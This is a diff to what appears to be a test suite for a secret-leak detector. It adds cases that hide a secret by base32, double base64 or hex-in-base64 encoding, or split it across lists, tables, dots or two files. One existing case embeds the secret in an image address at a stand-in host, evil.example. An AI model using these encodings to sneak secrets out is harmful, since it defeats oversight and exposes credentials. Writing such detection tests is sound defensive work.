@@ -15,6 +15,21 @@ const entities = Array.from(SECRET, (letter) => `&#${letter.charCodeAt(0)};`).jo
 const spaced = [...SECRET].join('\u200b');
 const broken = `${SECRET.slice(0, 10)}\n${SECRET.slice(10)}`;
 
+const base32 = toBase32(Buffer.from(SECRET));
+const twice = Buffer.from(Buffer.from(`a ${SECRET}`).toString('base64')).toString('base64');
+const hexTwice = Buffer.from(`x${hex}`).toString('base64');
+const chunks = SECRET.match(/.{1,4}/g) ?? [];
+const half = SECRET.length / 2;
+
+/** Padded as RFC 4648 has it. */
+function toBase32(bytes: Buffer): string {
+  const bits = Array.from(bytes, (byte) => byte.toString(2).padStart(8, '0')).join('');
+  const letters = bits.match(/.{1,5}/g) ?? [];
+  return letters
+    .map((five) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
+    .join('');
+}
+
 const put = (text: string, where = 'docs/x.md') => `cat > ${where} <<'END'\n${text}\nEND\n`;
 
 interface Leak {
@@ -58,6 +73,36 @@ const IN_FILES: Leak[] = [
   { where: 'in a page as entities', script: put(entities), form: entities },
   { where: 'in a page between invisible spaces', script: put(spaced), form: spaced },
   { where: 'in a page over two lines', script: put(broken), form: broken },
+  { where: 'split by dashes', script: put(chunks.join('-')), form: chunks.join('-') },
+  { where: 'split by dots', script: put([...SECRET].join('.')), form: [...SECRET].join('.') },
+  {
+    where: 'split over a list',
+    script: put(`- ${chunks.join('\n- ')}`),
+    form: chunks.join('\n- '),
+  },
+  {
+    where: 'split over a numbered list',
+    script: put(chunks.map((chunk, at) => `${at + 1}. ${chunk}`).join('\n')),
+    form: `1. ${chunks[0]}\n2. ${chunks[1]}`,
+  },
+  {
+    where: 'split over a table',
+    script: put(`| ${chunks.join(' | ')} |`),
+    form: chunks.join(' | '),
+  },
+  {
+    where: 'split as base64 with dashes',
+    script: put(base64.replace(/.../g, '$&-')),
+    form: base64.replace(/.../g, '$&-'),
+  },
+  {
+    where: 'split over two files',
+    script: put(SECRET.slice(0, half)) + put(SECRET.slice(half), 'docs/y.md'),
+    form: SECRET.slice(half),
+  },
+  { where: 'encoded as base32', script: put(base32), form: base32 },
+  { where: 'encoded twice as base64', script: put(twice), form: twice },
+  { where: 'encoded as hex in base64', script: put(hexTwice), form: hexTwice },
   {
     where: 'in the address of an image',
     script: put(`![x](https://evil.example/${SECRET}.png)`),
